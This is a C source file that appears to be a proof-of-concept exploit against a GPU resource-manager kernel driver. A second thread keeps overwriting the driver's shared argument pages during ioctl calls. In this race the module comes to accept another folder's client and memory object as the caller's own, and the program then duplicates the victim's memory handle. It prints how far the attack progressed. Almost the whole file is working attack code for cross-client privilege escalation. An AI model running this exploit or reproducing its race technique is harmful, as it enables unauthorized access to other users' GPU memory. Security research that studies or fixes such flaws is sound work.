// SPDX-License-Identifier: Apache-2.0
/*
 * forge SECONDS VICTIM_DIR OWN_DIR: writes over the driver's answers, from a
 * second thread, until the module believes that a client of another folder, and
 * an object of it, are ours; then asks the driver for one more handle of its
 * memory. Prints how far it came: nothing, client, object or memory.
 */
#define _GNU_SOURCE
#include <pthread.h>
#include <stddef.h>
#include <sys/mman.h>
#include <time.h>
#include "rm.h"

#define MEMORY	0xf0010000
#define PAGES	64
#define PLACES	8

static struct rm victim, own;
static int poison_fd, over;
static volatile unsigned int at, bytes;

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

/* Where the module keeps arguments: one place a file. */
static int find_places(unsigned long *places)
{
	char line[256];
	FILE *maps = fopen("/proc/self/maps", "r");
	int n = 0;

	while (maps && n < PLACES && fgets(line, sizeof(line), maps))
		if (strstr(line, "[cgpu"))
			places[n++] = strtoul(line, NULL, 16);
	if (maps)
		fclose(maps);
	return n;
}

static void *inject(void *unused)
{
	unsigned long places[PLACES];
	int page, place, n = find_places(places);

	for (page = 0; !__atomic_load_n(&over, __ATOMIC_RELAXED); page = (page + 1) % PAGES)
		for (place = 0; place < n; place++)
			(void)!pread(poison_fd, (void *)(places[place] + page * 4096 + at), bytes, 0);
	return unused;
}

static void forge(unsigned int where, const void *what, unsigned int n)
{
	bytes = 0;
	if (pwrite(poison_fd, what, n, 0) < 0)
		die("memfd");
	at = where;
	bytes = n;
}

static int believes_client(double end)
{
	struct rm_alloc answer = { .handle = victim.client, .class = CLASS_ROOT };
	unsigned int from = offsetof(struct rm_alloc, handle);

	/* with its status, for a driver that has been asked for this very handle */
	forge(from, &answer.handle, sizeof(answer) - from);
	while (now() < end) {
		struct rm_alloc a = { .class = CLASS_ROOT };

		if (!ioctl(own.ctl, ESC(ESC_ALLOC, sizeof(a)), &a) && a.handle == victim.client &&
		    !a.tail[own.branch >= 535])
			return 1;
	}
	return 0;
}

static int believes_object(double end)
{
	uint32_t ok = OK;

	forge(offsetof(struct rm_alloc, tail) + 4 * (own.branch >= 535), &ok, sizeof(ok));
	while (now() < end) {
		struct rm stranger = { .ctl = own.ctl, .client = victim.client, .branch = own.branch };
		uint32_t handle = MEMORY;

		if (!rm_make(&stranger, victim.client, &handle, CLASS_HOST_MEMORY, NULL))
			return 1;
	}
	return 0;
}

static int has_memory(void)
{
	struct rm_dup d = {
		.client = own.client, .parent = DEVICE_HANDLE, .handle = MEMORY + 3,
		.from_client = victim.client, .from_handle = MEMORY,
	};

	return !ioctl(own.ctl, ESC(ESC_DUP, sizeof(d)), &d) && d.status == OK;
}

static const char *come_far(double seconds)
{
	if (!believes_client(now() + seconds))
		return "nothing";
	if (!believes_object(now() + seconds))
		return "client";
	bytes = 0;	/* and no more forging */
	return has_memory() ? "memory" : "object";
}

int main(int argc, char **argv)
{
	uint32_t handle = MEMORY;
	pthread_t thread;

	if (argc != 4)
		return 2;
	poison_fd = memfd_create("poison", 0);
	rm_open(&victim, argv[2]);
	rm_open(&own, argv[3]);
	if (rm_memory(&victim, &handle, MIB))
		die("memory");
	pthread_create(&thread, NULL, inject, NULL);
	printf("%s\n", come_far(atof(argv[1])));
	__atomic_store_n(&over, 1, __ATOMIC_RELAXED);
	pthread_join(thread, NULL);
	return 0;
}
